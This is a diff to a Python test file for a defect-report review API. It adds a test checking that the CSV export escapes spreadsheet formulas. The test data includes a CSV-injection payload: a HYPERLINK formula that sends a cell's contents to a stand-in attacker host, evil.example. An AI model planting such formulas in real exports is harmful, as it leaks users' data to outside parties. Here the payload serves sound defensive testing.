@@ -2,6 +2,9 @@
 
 from __future__ import annotations
 
+import csv
+import io
+import json
 from collections.abc import Callable
 from typing import Any
 
@@ -132,3 +135,18 @@ def test_the_state_is_checked_before_the_password(client_for: Client, seeded: Se
     for password in ("wrong guess", PASSWORD):
         assert _review(reviewer, token, ncr, "CONFIRMED_DEFECT", password=password).status_code == 409
     assert _actions(seeded, "signature.failure") == 0
+
+
+def test_the_api_csv_export_neutralises_formulas(client_for: Client, seeded: Seeded) -> None:
+    reviewer, token = client_for("reviewer")
+    qe, _ = client_for("quality_engineer")
+    ncr = seeded.review[0].ncr_uuid
+    reason = '=HYPERLINK("http://evil.example/?d="&B2,"open")'
+    assert reviewer.post(f"/api/v1/ncrs/{ncr}/review", headers={"X-CSRF-Token": token},
+                         json={"decision": "NEEDS_MRB", "reason": reason, "investigation_notes": "+SUM(1;2)",
+                               "password": PASSWORD}).status_code == 200
+    rows = list(csv.DictReader(io.StringIO(qe.get("/api/v1/export/ncrs?fmt=csv").text)))
+    row = next(r for r in rows if r["ncr_uuid"] == ncr)
+    assert row["review.reason"] == "'" + reason and row["review.investigation_notes"] == "'+SUM(1;2)"
+    exported = json.loads(qe.get("/api/v1/export/ncrs?fmt=json").text)
+    assert next(d for d in exported if d["ncr_uuid"] == ncr)["review"]["reason"] == reason
